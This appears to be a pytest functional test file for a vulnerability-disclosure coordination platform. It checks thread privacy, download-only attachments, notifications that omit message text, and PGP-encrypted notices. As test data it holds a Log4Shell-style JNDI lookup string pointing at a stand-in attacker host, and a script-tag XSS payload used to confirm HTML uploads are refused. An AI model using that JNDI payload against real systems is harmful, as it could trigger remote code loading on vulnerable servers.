"""Threads over real HTTP: the case thread, private threads (invisible to anyone but the
coordinator and their one participant), attachments served only as downloads, and
notifications that say that something was posted, never what."""

from __future__ import annotations

import hashlib
import json
from datetime import UTC, datetime, timedelta

import httpx
import pytest
from sqlalchemy import select

from clearinghouse.notify.models import Notification
from tests.functional.conftest import Platform
from tests.support.cases import Coordinated, coordinate, sent_emails

SECRET_TEXT = "the payload is ${jndi:ldap://evil.test/a}"


@pytest.fixture
def coordinated(platform: Platform) -> Coordinated:
    return coordinate(platform)


def _link(platform: Platform, c: Coordinated) -> httpx.Client:
    return platform.client(headers={"Authorization": f"Invite {c.outside_token}"})


def test_case_thread_reaches_every_participant_without_the_text(
    platform: Platform, coordinated: Coordinated
) -> None:
    base = f"/api/v1/cases/{coordinated.case}"
    (thread,) = coordinated.vendor.get(f"{base}/threads").json()
    assert thread["kind"] == "case"
    r = coordinated.vendor.post(
        f"{base}/threads/{thread['id']}/messages", json={"body": SECRET_TEXT}
    )
    assert r.status_code == 201, r.text
    link = _link(platform, coordinated)
    messages = link.get(f"{base}/threads/{thread['id']}/messages").json()["items"]
    assert [m["body"] for m in messages] == [SECRET_TEXT]
    assert messages[0]["author"] == "psirt@vendor-a.test"
    # the coordinator's users got a notification; the outside vendor an e-mail; neither
    # carries the message
    with platform.database.transaction(write=False) as s:
        notes = s.scalars(select(Notification).where(Notification.kind == "case.message")).all()
    assert notes
    assert all(SECRET_TEXT not in n.body and "jndi" not in n.subject for n in notes)
    mails = [m for m in sent_emails(platform.database) if "New message" in m["subject"]]
    assert [m["to"] for m in mails] == ["security@logging.apache.test"]
    assert SECRET_TEXT not in mails[0]["text"]


def test_private_threads_are_invisible_to_others(
    platform: Platform, coordinated: Coordinated
) -> None:
    base = f"/api/v1/cases/{coordinated.case}"
    r = coordinated.coordinator.post(
        f"{base}/threads",
        json={"kind": "private", "participant_id": coordinated.vendor_participant},
    )
    assert r.status_code == 201, r.text
    private = r.json()
    again = coordinated.coordinator.post(
        f"{base}/threads",
        json={"kind": "private", "participant_id": coordinated.vendor_participant},
    )
    assert again.json()["id"] == private["id"]  # one private thread per participant
    coordinated.coordinator.post(
        f"{base}/threads/{private['id']}/messages",
        json={"body": "can you confirm 2.15.0 fixes it?"},
    )
    vendor_threads = {t["id"] for t in coordinated.vendor.get(f"{base}/threads").json()}
    assert private["id"] in vendor_threads
    link = _link(platform, coordinated)
    assert private["id"] not in {t["id"] for t in link.get(f"{base}/threads").json()}
    assert link.get(f"{base}/threads/{private['id']}/messages").status_code == 404
    assert (
        link.post(f"{base}/threads/{private['id']}/messages", json={"body": "hello"}).status_code
        == 404
    )
    # a vendor may open its own private thread with the coordinator, not another's
    assert link.post(f"{base}/threads", json={"kind": "private"}).status_code == 201
    assert (
        link.post(
            f"{base}/threads",
            json={"kind": "private", "participant_id": coordinated.vendor_participant},
        ).status_code
        == 404
    )
    assert link.post(f"{base}/threads", json={"kind": "case", "title": "x"}).status_code == 403


def test_attachments_are_hashed_and_served_only_as_downloads(
    platform: Platform, coordinated: Coordinated
) -> None:
    base = f"/api/v1/cases/{coordinated.case}"
    private = coordinated.coordinator.post(
        f"{base}/threads",
        json={"kind": "private", "participant_id": coordinated.vendor_participant},
    ).json()
    patch = b"--- a/JndiLookup.java\n+++ b/JndiLookup.java\n@@ -1 +1 @@\n-x\n+y\n"
    r = coordinated.vendor.post(
        f"{base}/threads/{private['id']}/messages",
        data={"message": json.dumps({"body": "our fix"})},
        files=[("attachment", ("fix.patch", patch, "text/x-diff"))],
    )
    assert r.status_code == 201, r.text
    (meta,) = r.json()["attachments"]
    assert meta["sha256"] == hashlib.sha256(patch).hexdigest()
    d = coordinated.coordinator.get(meta["download"])
    assert d.status_code == 200
    assert d.content == patch
    assert d.headers["content-type"] == "application/octet-stream"
    assert d.headers["content-disposition"].startswith("attachment;")
    assert d.headers["x-content-type-options"] == "nosniff"
    # the other vendor cannot fetch what was posted in someone else's private thread
    assert _link(platform, coordinated).get(meta["download"]).status_code == 404
    html = coordinated.vendor.post(
        f"{base}/threads/{private['id']}/messages",
        data={"message": json.dumps({"body": "look"})},
        files=[("attachment", ("page.html", b"<script>alert(1)</script>", "text/html"))],
    )
    assert html.status_code == 422


def test_details_travel_encrypted_to_a_registered_openpgp_key(
    platform: Platform, coordinated: Coordinated
) -> None:
    pysequoia = pytest.importorskip("pysequoia")
    from sqlalchemy import update

    from clearinghouse.accounts.models import Organisation

    tsk = pysequoia.Tsk.generate("Vendor A PSIRT <psirt@vendor-a.test>")
    # a key is usable from its creation (the wall clock) on: move the platform there
    platform.clock.set(datetime.now(UTC) + timedelta(minutes=1))
    with platform.database.transaction() as s:
        s.execute(
            update(Organisation)
            .where(Organisation.slug == "vendor-a")
            .values(pgp_public_key=str(tsk.extract_certificate()))
        )
    base = f"/api/v1/cases/{coordinated.case}"
    (thread,) = coordinated.coordinator.get(f"{base}/threads").json()
    r = coordinated.coordinator.post(
        f"{base}/threads/{thread['id']}/messages", json={"body": SECRET_TEXT}
    )
    assert r.status_code == 201
    with platform.database.transaction(write=False) as s:
        (note,) = s.scalars(
            select(Notification).where(
                Notification.kind == "case.message",
                Notification.organisation_id
                == select(Organisation.id).where(Organisation.slug == "vendor-a").scalar_subquery(),
            )
        ).all()
        body = note.body
    assert SECRET_TEXT not in body
    armored = body[body.index("-----BEGIN PGP MESSAGE-----") :]
    plain = pysequoia.decrypt(armored.encode(), tsk.decryptor()).bytes.decode()
    assert SECRET_TEXT in plain
